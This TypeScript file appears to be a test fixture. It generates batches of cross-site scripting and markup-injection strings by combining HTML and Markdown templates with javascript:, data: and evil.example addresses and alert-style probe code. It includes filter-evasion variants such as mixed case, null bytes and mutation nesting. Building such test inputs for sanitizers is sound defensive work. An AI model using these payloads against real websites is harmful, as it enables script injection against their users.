/** What an injected text tries to run. */
const CODE = ['alert(1)', 'alert`1`', 'top.alert(1)', "(0,eval)('alert(1)')", 'window.executed=1']

const ADDRESSES = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  'java\tscript:CODE',
  ' javascript:CODE',
  'data:text/html,<script>CODE</script>',
  'vbscript:CODE',
  'https://evil.example/?CODE',
  '//evil.example/CODE',
  'https:evil.example/CODE',
  '\\\\evil.example\\CODE',
  'blob:https://evil.example/CODE',
  'https://evil.example:443/#CODE',
]

/** `URL` is an address, `CODE` what it would run. */
const SHAPES = [
  '<script>CODE</script>',
  '<img src=x onerror=CODE>',
  '<svg/onload=CODE>',
  '<svg><animate onbegin=CODE attributeName=x></svg>',
  '<iframe srcdoc="<script>CODE</script>"></iframe>',
  '<iframe src="URL"></iframe>',
  '<a href="URL">click</a>',
  '<style>@import "URL";</style>',
  '<link rel=stylesheet href="URL">',
  '<form action="URL"><button>Go</button></form>',
  '<details open ontoggle=CODE>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CODE>',
  '<template shadowrootmode=open><script>CODE</script></template>',
  '<base href="URL">',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<object data="URL"></object>',
  '<video poster="URL"><source onerror=CODE></video>',
  '<input autofocus onfocus=CODE>',
  '[click](URL)',
  '[click](<URL>)',
  '[click](URL "title")',
  '![picture](URL)',
  '![picture][ref]\n\n[ref]: URL',
  '[click][ref]\n\n[ref]: URL',
  '[1]: URL',
  '[1](URL)',
  '<URL>',
  'URL',
  '| a |\n| - |\n| [click](URL) <img src=x onerror=CODE> |',
  '- [ ] [click](URL)',
  '> ![p](URL)',
  '```html\n<img src=x onerror=CODE>\n```',
  '```<img src=x onerror=CODE>\ncode\n```',
  '`<img src=x onerror=CODE>`',
  '# [click](URL) <script>CODE</script>',
  '**[click](URL)**',
  '[![p](URL)](URL)',
  '&lt;script&gt;CODE&lt;/script&gt;',
  '<!--><img src=x onerror=CODE>-->',
  '<![CDATA[<img src=x onerror=CODE>]]>',
  '"><img src=x onerror=CODE>',
  "' onmouseover=CODE x='",
  '{{constructor.constructor("CODE")()}}',
  '${CODE}',
  '\u202e<script>CODE</script>',
  '<scr\u0000ipt>CODE</script>',
  '[a]: <URL>\n[a]',
  'mailto:a@b.example?body=CODE',
  '[x](mailto:a@b.example)',
  'www.evil.example/CODE',
]

/** So many different texts, in batches of so many. */
export function injections(count: number, perBatch: number): string[][] {
  const all: string[] = []
  for (const shape of SHAPES) {
    for (const address of ADDRESSES) {
      for (const code of CODE) all.push(shape.replaceAll('URL', address).replaceAll('CODE', code))
    }
  }
  const chosen = all.slice(0, count)
  if (chosen.length < count) throw new Error(`There are only ${all.length} injections`)
  return Array.from({ length: count / perBatch }, (_, index) =>
    chosen.slice(index * perBatch, (index + 1) * perBatch),
  )
}
